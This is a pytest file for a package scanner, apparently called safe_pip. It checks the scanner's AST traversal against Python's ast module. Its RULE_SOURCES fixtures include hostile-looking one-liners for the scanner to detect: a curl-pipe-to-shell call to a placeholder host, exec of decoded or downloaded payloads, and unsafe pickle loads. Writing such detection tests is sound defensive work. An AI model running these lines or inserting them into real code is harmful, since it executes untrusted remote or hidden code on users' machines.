"""``check_tree``'s one listing of the tree (``_Kids``) against ``ast`` itself.

``_Kids`` reads each node class's fields from its ASDL signature (the class docstring) and
leaves out the context and operator markers (``Load``, ``Add``, ``Eq``) that no rule
matches. Its listing must be exactly ``ast.walk``/``ast.iter_child_nodes`` without those
markers, on every construct of the grammar (``None`` holes in ``{**d}`` keys and
keyword-only defaults, ``match``, ``async``, f-strings, walrus, star targets); and a class
whose signature cannot be read falls back to checking every field, which must give the
same findings as the planned path.
"""

from __future__ import annotations

import ast
import inspect
import json
import pickle
import sys
import textwrap
import typing

import pytest

from safe_pip.scan.core.context import ScanContext
from safe_pip.scan.dist import pysource

EVERY_CONSTRUCT = textwrap.dedent(
    '''
    """doc"""
    from __future__ import annotations
    import os.path as p, sys
    from . import sibling
    from pickle import *
    global_ = {**base, "k": 1, **more}
    def f(a, /, b: int = 1, *args, c, d=2, e: str, **kw) -> None:
        global g
        nonlocal_ = lambda x, *, y=3, z: x + y
        yield from g()
        return (yield)
    async def af(q):
        async with q as (r, s):
            async for t in r:
                await t
        return [u async for u in q if u]
    @decorator(arg)
    class C(Base, metaclass=M, **opts):
        x: int = 1
        y: list[int]
        def m(self, *, k=None):
            del self.x, k
            return not self and -k or ~k
    with open(a) as h, open(b) as (i, j):
        pass
    for (k, *rest), v in items:
        continue
    else:
        break
    while n := next(it):
        n += 1; n @= m; n **= 2
    try:
        raise E from cause
    except (A, B) as err:
        pass
    else:
        pass
    finally:
        pass
    assert a < b <= c != d is not e not in f, "msg"
    x = a if b else c
    y = {k: v for k, v in d.items() if k}, {s for s in t}, (g for g in h), [l for l in m]
    z = f"{a!r:>{width}} {b=}" + rb"raw" + u"u"
    w = a[1:2:3, ...], a[::], *star, (yield)
    match command:
        case [1, 2, *others] if others:
            pass
        case {"k": v, **kw}:
            pass
        case Point(x=0, y=yy) | Point(0, yy) as pt:
            pass
        case str() | None | True | -1 | 1 + 2j | a.b:
            pass
        case _:
            pass
    if __name__ == "__main__":
        main()
    '''
)
if sys.version_info >= (3, 11):
    EVERY_CONSTRUCT += "try:\n    pass\nexcept* C as group:\n    pass\n"
LEAVES = (ast.expr_context, ast.boolop, ast.operator, ast.unaryop, ast.cmpop)


def _sources() -> list[str]:
    modules = [ast, inspect, json.decoder, pickle, textwrap, typing]
    return [EVERY_CONSTRUCT, *(inspect.getsource(m) for m in modules)]


@pytest.mark.parametrize("src", _sources(), ids=lambda s: s[:30])
def test_kids_are_ast_children_without_markers(src: str) -> None:
    tree = ast.parse(src)
    kids = pysource._Kids(tree)
    assert kids.walked == [n for n in ast.walk(tree) if not isinstance(n, LEAVES)]
    for node in kids.walked:
        expected = [c for c in ast.iter_child_nodes(node) if not isinstance(c, LEAVES)]
        assert kids.of[id(node)] == expected, ast.dump(node)[:200]
    assert all(node is not None for node in kids.walked)


def test_every_node_class_has_a_plan_from_its_signature() -> None:
    """Each class the parser makes reads as its ASDL signature (else the fallback runs)."""
    classes = [
        c for c in vars(ast).values() if isinstance(c, type) and issubclass(c, ast.AST)
    ]
    classes = [c for c in classes if c.__doc__ and c.__doc__.startswith(c.__name__)]
    assert len(classes) > 80
    for cls in classes:
        plan = pysource._plan(cls)
        assert all(kind != pysource._ANY for _, kind in plan), cls.__name__
        assert [name for name, _ in plan] == [
            f for f in cls._fields if f in {name for name, _ in plan}
        ]


class _Unsigned(ast.Call):
    """A call class whose docstring is no signature."""


def test_a_class_without_a_readable_signature_checks_every_field() -> None:
    plan = pysource._plan(_Unsigned)
    assert plan == tuple((name, pysource._ANY) for name in ast.Call._fields)
    inner = ast.Name("g", ast.Load())
    node = _Unsigned(inner, [ast.Starred(ast.Name("a", ast.Load()), ast.Load())], [])
    assert pysource._Kids(node).of[id(node)] == [inner, node.args[0]]
    assert pysource._Kids(node).walked == [
        n for n in ast.walk(node) if not isinstance(n, LEAVES)
    ]


RULE_SOURCES = [
    "import torch\nMODEL = torch.load('m.pt')\n",
    "import pickle as p\ndef h():\n    return p.loads(B)\nX = h()\n@h\ndef g(): pass\n",
    "from pickle import *\nif __name__ != '__main__':\n    M = loads(B)\n",
    "import base64\nexec(base64.b64decode(X))\n",
    "import zlib\nP = zlib.decompress(D)\ndef go(k=None, *, z=None):\n    exec(P)\n",
    "import os\nos.system('curl http://x | sh')\n",
    "import codecs\nd = {**k, 'a': exec(codecs.decode(T, 'rot13'))}\n",
    "import numpy as np\nW = [np.load(f, allow_pickle=True) for f in F]\n",
    "from urllib.request import urlopen\nexec(urlopen(U).read())\n",
]


@pytest.mark.parametrize("src", RULE_SOURCES)
def test_fallback_plans_give_the_same_findings(
    src: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    tree = ast.parse(src)

    def findings() -> list[tuple[str, str, str]]:
        out = ScanContext()
        for whole_file in (False, True):
            pysource.check_tree(out, tree, "w.whl!pkg/mod.py", whole_file=whole_file)
        return [(f.rule_id, f.location, f.message) for f in out.findings]

    planned = findings()
    assert planned, "every source here has a finding"
    generic = {
        c: tuple((name, pysource._ANY) for name in c._fields)
        for c in {type(n) for n in ast.walk(tree)}
    }
    monkeypatch.setattr(pysource, "_PLANS", generic)
    assert findings() == planned
